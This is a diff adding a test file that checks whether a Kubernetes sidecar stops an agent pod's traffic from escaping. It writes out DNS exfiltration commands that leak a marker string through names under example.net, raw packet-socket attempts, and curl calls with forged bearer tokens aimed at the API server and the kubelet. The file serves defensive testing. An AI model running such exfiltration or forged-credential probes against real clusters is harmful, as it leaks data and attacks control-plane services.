@@ -1,0 +1,281 @@
+/**
+ * Ways out of a pod that go around the sidecar. The node notes where packets of each pod go: of the injected pod, whatever its
+ * containers try, to the controller and nowhere else; of the same container in a pod that is not injected, to every target.
+ * Numbers are rows of the list of bypasses reported against similar designs.
+ */
+
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { SIDECAR_PORTS } from '../../api/pod-layout.ts';
+import type { KubeObject } from '../support/api-client.ts';
+import { type AgentNamespace, useAgentNamespace } from '../support/node/agent-namespaces.ts';
+import type { AgentPod } from '../support/node/agent-pod.ts';
+import { attempt, type Outcomes } from '../support/node/attempts.ts';
+import {
+  API_SERVICE_ADDRESSES,
+  DNS_SERVICE_ADDRESSES,
+  KUBELET_PORT,
+  NODE_ADDRESSES,
+} from '../support/node/layout.ts';
+import { NodeCluster } from '../support/node/node-cluster.ts';
+import {
+  ATTACKS,
+  type Attack,
+  EPERM,
+  FAR,
+  overTCP,
+  RAW,
+  TCP,
+  UDP,
+} from '../support/node/packet-attacks.ts';
+import { type Flow, type PacketWatch, watchPackets } from '../support/node/packets.ts';
+import { ensureInstalled } from '../support/node/release.ts';
+import { place, STRONGEST, startPod, strongestSpec } from '../support/node/walled-pods.ts';
+import type { Step } from '../support/raw-sockets.ts';
+
+const AF_PACKET = 17;
+/** Of the controller's pods, behind their Service's 443. */
+const EXCHANGE_PORT = 8443;
+const OPERATIONS_PORT = 8080;
+
+const [NODE] = NODE_ADDRESSES;
+const [API] = API_SERVICE_ADDRESSES;
+// The sidecar itself asks it for the controller: what is asked there is in the server's log.
+const [DNS] = DNS_SERVICE_ADDRESSES;
+/** In every name that is asked for. */
+const SECRET = 'walking-secret';
+
+const DNS_COMMANDS: Readonly<Record<string, readonly string[]>> = {
+  'its own resolver': ['getent', 'ahosts', `a.${SECRET}.example.net`],
+  'a TXT record': ['dig', '+tries=1', '+time=1', 'TXT', `b.${SECRET}.example.net`],
+  "the cluster's server": ['dig', '+tries=1', '+time=1', `@${DNS}`, `c.${SECRET}.example.net`],
+  'the same over TCP': ['dig', '+tcp', '+tries=1', '+time=1', `@${DNS}`, `d.${SECRET}.example.net`],
+  'a search domain': ['dig', '+search', '+tries=1', '+time=1', `e.${SECRET}`],
+  'the server on the node': ['dig', '+tries=1', '+time=1', `@${NODE}`, `f.${SECRET}.example.net`],
+  'a call that is refused': [
+    'curl',
+    '-sS',
+    '-m5',
+    `https://g.${SECRET}.example.net/dns-query?dns=A`,
+  ],
+  'a call to plain HTTP': ['curl', '-sS', '-m5', `http://h.${SECRET}.example.net/`],
+};
+
+interface PodList {
+  readonly metadata: never;
+  readonly items: readonly { readonly status: { readonly podIP: string } }[];
+}
+
+const cluster = new NodeCluster(inject('node'));
+let agents: AgentNamespace;
+let plain: string;
+let watch: PacketWatch;
+let bare: AgentPod;
+let injected: AgentPod;
+let controllerIP: string;
+let bareOutcomes: Outcomes;
+/** Of the two containers of the injected pod. */
+let outcomes: Readonly<Record<'agent' | typeof STRONGEST, Outcomes>>;
+let bareFlows: readonly Flow[];
+let flows: readonly Flow[];
+let dnsMark: number;
+/** What is where only this run knows. */
+let found: readonly Attack[];
+const FOUND = ["the controller's exchange", "the controller's metrics", 'another pod'] as const;
+
+beforeAll(async () => {
+  await ensureInstalled(cluster);
+  agents = await useAgentNamespace(cluster);
+  plain = await cluster.createNamespace('outside');
+  const service = await cluster.api<KubeObject & { spec: { clusterIP: string } }>(
+    'GET',
+    '/api/v1/namespaces/actiongrant-system/services/actiongrant-controller',
+  );
+  controllerIP = service.spec.clusterIP;
+  watch = await watchPackets();
+  dnsMark = cluster.dnsMark();
+  let other: AgentPod;
+  [bare, other, injected] = await Promise.all([
+    startPod(cluster, plain, 'bare'),
+    startPod(cluster, plain, 'other'),
+    startPod(cluster, agents.name, 'walled', strongestSpec(cluster)),
+  ]);
+  const { items: controllers } = await cluster.api<PodList>(
+    'GET',
+    '/api/v1/namespaces/actiongrant-system/pods?labelSelector=app.kubernetes.io/component%3Dcontroller',
+  );
+  const controller = controllers[0]?.status.podIP ?? '';
+  found = [
+    overTCP(FOUND[0], controller, EXCHANGE_PORT),
+    overTCP(FOUND[1], controller, OPERATIONS_PORT),
+    overTCP(FOUND[2], other.addresses[0] ?? '', 8080),
+  ];
+  const attempts = {
+    steps: Object.fromEntries([...ATTACKS, ...found].map(({ name, steps }) => [name, steps])),
+    commands: {
+      ...DNS_COMMANDS,
+      ping: ['ping', '-c1', '-W1', FAR.ipv4],
+      'ping over IPv6': ['ping', '-6', '-c1', '-W1', FAR.ipv6],
+    },
+  };
+  const [ofBare, ofAgent] = await Promise.all([
+    attempt(cluster, place(bare), attempts),
+    attempt(cluster, place(injected), attempts),
+  ]);
+  bareOutcomes = ofBare;
+  outcomes = {
+    agent: ofAgent,
+    [STRONGEST]: await attempt(cluster, place(injected, STRONGEST), attempts),
+  };
+  bareFlows = await watch.flows(ipv4(bare));
+  flows = await watch.flows(ipv4(injected));
+}, 180_000);
+
+afterAll(async () => {
+  await watch?.close();
+  await agents?.release();
+  if (plain !== undefined) await cluster.api('DELETE', `/api/v1/namespaces/${plain}`);
+  await cluster.disconnect();
+});
+
+describe('no packet reaches the node', () => {
+  it.each(ATTACKS)('$name', ({ name, to, fails }) => {
+    expect(bareFlows).toContainEqual(to);
+    expect(flows).not.toContainEqual(to);
+    if (fails === undefined) return;
+    for (const container of ['agent', STRONGEST] as const) {
+      expect(outcomes[container].steps(name)[fails[0]]).toBe(fails[1]);
+    }
+  });
+
+  it.each(FOUND)('#3 to %s, by its own address', (name) => {
+    const { to } = found.find((one) => one.name === name) ?? {};
+    expect(bareFlows).toContainEqual(to);
+    expect(flows).not.toContainEqual(to);
+  });
+
+  it('whatever was tried, but for what the sidecar has to say to the controller', () => {
+    const allowed: readonly Flow[] = [
+      { protocol: TCP, address: controllerIP, port: 443 },
+      { protocol: UDP, address: DNS, port: 53 },
+    ];
+    expect(flows.filter((flow) => !allowed.some((one) => same(one, flow)))).toEqual([]);
+  });
+
+  it.each(['ping', 'ping over IPv6'])(
+    '#3 %s, whose program has a capability of its own',
+    (name) => {
+      expect(bareOutcomes.command(name)).toMatchObject({ code: 0 });
+      for (const container of ['agent', STRONGEST] as const) {
+        expect(outcomes[container].command(name)).toMatchObject({ code: 126 });
+      }
+    },
+  );
+
+  it('#1 a packet socket is not to be had', async () => {
+    const steps = { packet: [['socket', 'a', AF_PACKET, RAW, 0x300]] as Step[] };
+    expect((await attempt(cluster, place(bare), { steps })).steps('packet')).toEqual([0]);
+    for (const container of ['agent', STRONGEST]) {
+      const tried = await attempt(cluster, place(injected, container), { steps });
+      expect(tried.steps('packet')).toEqual([EPERM]);
+    }
+  });
+});
+
+describe('#4 DNS exfiltration', () => {
+  it.each('abcdefgh'.split('').map((letter, index) => [Object.keys(DNS_COMMANDS)[index], letter]))(
+    'over %s (%s): asked outside the pod by nobody',
+    (_name, letter) => {
+      const asked = cluster
+        .dnsQuestions(dnsMark)
+        .filter(({ name }) => name.startsWith(`${letter}.${SECRET}`))
+        .map(({ client }) => client);
+      expect(asked).toContain(ipv4(bare));
+      for (const ip of injected.addresses) expect(asked).not.toContain(ip);
+    },
+  );
+
+  it('the pod asked for nothing but the controller', () => {
+    const names = cluster
+      .dnsQuestions(dnsMark)
+      .filter(({ client }) => injected.addresses.includes(client))
+      .map(({ name }) => name);
+    for (const name of names)
+      expect(name).toMatch(/^actiongrant-controller\.actiongrant-system\.svc/);
+  });
+});
+
+describe("the sidecar's own server", () => {
+  it('#4 asked over loopback at its own port, knows synthetic addresses and nothing else', async () => {
+    const dig = ['dig', '+tries=1', '+time=2', '@127.0.0.1', `-p${SIDECAR_PORTS.dns}`];
+    const name = `i.${SECRET}.example.net`;
+    for (const transport of ['+notcp', '+tcp']) {
+      const { stdout } = await injected.run([...dig, transport, '+short', name]);
+      expect(stdout).toMatch(/^198\.1[89]\.\d+\.\d+\n$/);
+    }
+    const { stdout } = await injected.run([...dig, 'TXT', name]);
+    expect(stdout).toMatch(/status: NOERROR.*ANSWER: 0/s);
+    expect(
+      cluster.dnsQuestions(dnsMark).filter((asked) => asked.name.startsWith(`i.${SECRET}`)),
+    ).toEqual([]);
+  });
+});
+
+describe('the sidecar answers in the place of who was called', () => {
+  const calls = {
+    "the controller's exchange": 'https://actiongrant-controller.actiongrant-system.svc/v1/uses',
+    "the controller's admission":
+      'https://actiongrant-controller.actiongrant-system.svc/admission/inject-pod',
+    'the API server': `https://${API}/api/v1/nodes`,
+    'what the sidecar is told':
+      'https://kubernetes.default.svc/api/v1/namespaces/default/configmaps/actiongrant-sidecar',
+    "the kubelet's pods": `https://${NODE}:${KUBELET_PORT}/pods`,
+  };
+
+  it('and refuses, while outside they answer themselves', async () => {
+    const commands = Object.fromEntries(
+      Object.entries(calls).map(([name, url]) => [
+        name,
+        // The pod's CA verifies every answer: so it is the sidecar's.
+        ['curl', '-sS', '-m8', '-XPOST', '-d{}', '-HAuthorization: Bearer forged', url],
+      ]),
+    );
+    const unverified = Object.fromEntries(
+      Object.entries(commands).map(([name, line]) => [name, [...line, '-k', '-w%{http_code}']]),
+    );
+    const [inside, outside] = await Promise.all([
+      attempt(cluster, place(injected), { commands }),
+      attempt(cluster, place(bare), { commands: unverified }),
+    ]);
+    for (const name of Object.keys(calls)) {
+      const { stdout, stderr } = inside.command(name);
+      expect(`${name}: ${stdout}${stderr}`).toMatch(
+        /actiongrant\.dev\/|ActionGrant refused the call/,
+      );
+      const { stdout: answer } = outside.command(name);
+      expect(`${name}: ${answer}`).toMatch(/(?:200|400|401|403|404|405|415)$/);
+      expect(answer).not.toContain('ActionGrant refused the call');
+    }
+  });
+
+  it('#12 its operations port is for the kubelet, not for the agent', async () => {
+    const url = `http://127.0.0.1:${SIDECAR_PORTS.operations}/readyz`;
+    const fromInside = await cluster.exec(injected.namespace, injected.name, [
+      ...['curl', '-sS', '-m3', url],
+    ]);
+    expect(fromInside).toMatchObject({ code: 7 });
+    const fromOutside = await cluster.exec(bare.namespace, bare.name, [
+      ...['curl', '-sSf', '-m3', url.replace('127.0.0.1', ipv4(injected))],
+    ]);
+    expect(fromOutside).toMatchObject({ code: 0 });
+  });
+});
+
+function same(one: Flow, other: Flow): boolean {
+  return (
+    one.protocol === other.protocol && one.address === other.address && one.port === other.port
+  );
+}
+
+function ipv4({ addresses }: AgentPod): string {
+  return addresses[0] ?? '';
+}
